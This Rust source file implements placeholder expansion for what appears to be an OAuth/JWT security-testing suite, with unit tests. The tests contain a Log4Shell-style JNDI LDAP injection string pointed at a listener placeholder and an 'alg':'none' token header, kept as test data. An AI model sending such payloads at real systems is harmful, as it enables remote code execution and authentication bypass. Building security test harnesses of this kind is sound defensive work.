//! String templates in suites: `{client_id}`, `{token_url|swap_scheme}`, `{listener:jwks}`.
//! A placeholder is `{` + a known name; any other brace is literal, so raw JSON such as
//! `{"alg":"none"}` passes through untouched. Unknown names are refused when the suite loads.

/// The placeholder names, with whether they take an argument (`{listener:NAME}`).
pub const NAMES: [(&str, bool); 15] = [
    ("client_id", false),
    ("token_url", false),
    ("audience", false),
    ("base_url", false),
    ("api_url", false),
    ("second_client_id", false),
    ("listener", true),
    ("attacker_x5t", false),
    ("random", true),
    ("token", true),
    ("basic", false),
    ("assertion", false),
    ("now", false),
    ("exp", false),
    ("jti", false),
];

/// The filters.
pub const FILTERS: [&str; 4] = ["upper", "swap_case", "swap_scheme", "host_port"];

/// One placeholder: name, optional argument and filters.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Placeholder<'a> {
    /// The name (`listener`).
    pub name: &'a str,
    /// The argument (`jwks` in `{listener:jwks}`).
    pub arg: Option<&'a str>,
    /// Filters, in order.
    pub filters: Vec<&'a str>,
}

enum Piece<'a> {
    Text(&'a str),
    Hole(Placeholder<'a>),
}

fn is_name_char(c: char) -> bool {
    c.is_ascii_lowercase() || c == '_'
}

fn pieces(s: &str) -> Result<Vec<Piece<'_>>, String> {
    let mut out = Vec::new();
    let mut rest = s;
    while let Some(open) = rest.find('{') {
        let after = &rest[open + 1..];
        let name_len = after
            .find(|c: char| !is_name_char(c))
            .unwrap_or(after.len());
        let name = &after[..name_len];
        let next = after[name_len..].chars().next();
        if next.is_none() && NAMES.iter().any(|(n, _)| *n == name) {
            return Err(format!("unclosed placeholder \"{{{name}\""));
        }
        let known = NAMES.iter().any(|(n, _)| *n == name);
        // `{unknown:…}` is literal text (`${jndi:ldap://…}`); `{unknown}` is a typo.
        if name.is_empty()
            || !matches!(next, Some('}' | ':' | '|'))
            || (!known && next == Some(':'))
        {
            // Not a placeholder: keep the brace as text.
            out.push(Piece::Text(&rest[..=open]));
            rest = after;
            continue;
        }
        let Some(close) = after.find('}') else {
            return Err(format!("unclosed placeholder \"{{{name}\""));
        };
        let inner = &after[..close];
        let (head, filters) = match inner.split_once('|') {
            Some((h, f)) => (h, f.split('|').collect::<Vec<_>>()),
            None => (inner, Vec::new()),
        };
        let (name, arg) = match head.split_once(':') {
            Some((n, a)) => (n, Some(a)),
            None => (head, None),
        };
        let Some((_, takes_arg)) = NAMES.iter().find(|(n, _)| *n == name) else {
            let known: Vec<&str> = NAMES.iter().map(|(n, _)| *n).collect();
            return Err(format!(
                "unknown placeholder {{{name}}} (known: {})",
                known.join(", ")
            ));
        };
        if *takes_arg != arg.is_some() {
            return Err(if *takes_arg {
                format!("placeholder {{{name}}} needs an argument: {{{name}:…}}")
            } else {
                format!("placeholder {{{name}}} takes no argument")
            });
        }
        if let Some(f) = filters.iter().find(|f| !FILTERS.contains(f)) {
            return Err(format!(
                "unknown filter |{f} (known: {})",
                FILTERS.join(", ")
            ));
        }
        out.push(Piece::Text(&rest[..open]));
        out.push(Piece::Hole(Placeholder { name, arg, filters }));
        rest = &after[close + 1..];
    }
    out.push(Piece::Text(rest));
    Ok(out)
}

/// Checks a template, returning its placeholders.
///
/// # Errors
/// A message naming the unknown placeholder or filter.
pub fn placeholders(s: &str) -> Result<Vec<Placeholder<'_>>, String> {
    Ok(pieces(s)?
        .into_iter()
        .filter_map(|p| match p {
            Piece::Hole(h) => Some(h),
            Piece::Text(_) => None,
        })
        .collect())
}

/// Expands a template; `lookup(name, arg)` gives each placeholder's value.
///
/// # Errors
/// A syntax error, or the message `lookup` returned for a value it cannot give.
pub fn expand(
    s: &str,
    mut lookup: impl FnMut(&str, Option<&str>) -> Result<String, String>,
) -> Result<String, String> {
    let mut out = String::with_capacity(s.len());
    for piece in pieces(s)? {
        match piece {
            Piece::Text(t) => out.push_str(t),
            Piece::Hole(h) => {
                let mut v = lookup(h.name, h.arg)?;
                for f in &h.filters {
                    v = apply_filter(f, &v);
                }
                out.push_str(&v);
            }
        }
    }
    Ok(out)
}

fn apply_filter(f: &str, v: &str) -> String {
    match f {
        "upper" => v.to_uppercase(),
        "swap_case" => v
            .chars()
            .map(|c| {
                if c.is_ascii_lowercase() {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect(),
        "host_port" => url::Url::parse(v)
            .ok()
            .and_then(|u| Some(format!("{}:{}", u.host_str()?, u.port_or_known_default()?)))
            .unwrap_or_else(|| v.to_owned()),
        "swap_scheme" => {
            if let Some(rest) = v.strip_prefix("https://") {
                format!("http://{rest}")
            } else if let Some(rest) = v.strip_prefix("http://") {
                format!("https://{rest}")
            } else {
                v.to_owned()
            }
        }
        _ => v.to_owned(),
    }
}

/// Expands templates inside every string of a JSON value.
///
/// # Errors
/// As [`expand`].
pub fn expand_json(
    v: &serde_json::Value,
    lookup: &mut impl FnMut(&str, Option<&str>) -> Result<String, String>,
) -> Result<serde_json::Value, String> {
    use serde_json::Value;
    Ok(match v {
        Value::String(s) => Value::String(expand(s, &mut *lookup)?),
        Value::Array(a) => Value::Array(
            a.iter()
                .map(|x| expand_json(x, lookup))
                .collect::<Result<_, _>>()?,
        ),
        Value::Object(o) => Value::Object(
            o.iter()
                .map(|(k, x)| Ok((k.clone(), expand_json(x, lookup)?)))
                .collect::<Result<_, String>>()?,
        ),
        other => other.clone(),
    })
}

/// Checks every string inside a JSON value.
///
/// # Errors
/// As [`placeholders`].
pub fn check_json(v: &serde_json::Value) -> Result<(), String> {
    use serde_json::Value;
    match v {
        Value::String(s) => placeholders(s).map(|_| ()),
        Value::Array(a) => a.iter().try_for_each(check_json),
        Value::Object(o) => o.values().try_for_each(check_json),
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn look(name: &str, arg: Option<&str>) -> Result<String, String> {
        Ok(match (name, arg) {
            ("token_url", _) => "https://gw/oauth/token".into(),
            ("client_id", _) => "Cid".into(),
            ("listener", Some(a)) => format!("http://127.0.0.1:9/{a}"),
            _ => return Err(format!("no {name}")),
        })
    }

    // Placeholders expand with filters; raw JSON braces stay literal.
    #[test]
    fn expands() {
        assert_eq!(
            expand("{token_url}/", look).expect("x"),
            "https://gw/oauth/token/"
        );
        assert_eq!(
            expand("{token_url|swap_scheme}", look).expect("x"),
            "http://gw/oauth/token"
        );
        assert_eq!(expand("{client_id|upper} ", look).expect("x"), "CID ");
        assert_eq!(expand("{client_id|swap_case}", look).expect("x"), "cID");
        assert_eq!(
            expand("{listener:j|host_port}", look).expect("x"),
            "127.0.0.1:9"
        );
        assert_eq!(
            expand("{listener:jwks}/k.json", look).expect("x"),
            "http://127.0.0.1:9/jwks/k.json"
        );
        let raw = r#"{"alg":"RS256","alg":"none"}"#;
        assert_eq!(expand(raw, look).expect("x"), raw);
        assert_eq!(expand("{}", look).expect("x"), "{}");
        assert_eq!(
            expand("${jndi:ldap://{listener:j|host_port}/a}", look).expect("x"),
            "${jndi:ldap://127.0.0.1:9/a}"
        );
    }

    // Unknown names, filters and missing arguments are refused.
    #[test]
    fn refuses() {
        assert!(
            placeholders("{client}")
                .expect_err("unknown")
                .contains("unknown placeholder")
        );
        assert!(
            placeholders("{token_url|lower}")
                .expect_err("filter")
                .contains("unknown filter")
        );
        assert!(
            placeholders("{listener}")
                .expect_err("arg")
                .contains("needs an argument")
        );
        assert!(
            placeholders("{client_id:x}")
                .expect_err("arg")
                .contains("takes no argument")
        );
        assert!(placeholders("{client_id").is_err());
    }
}
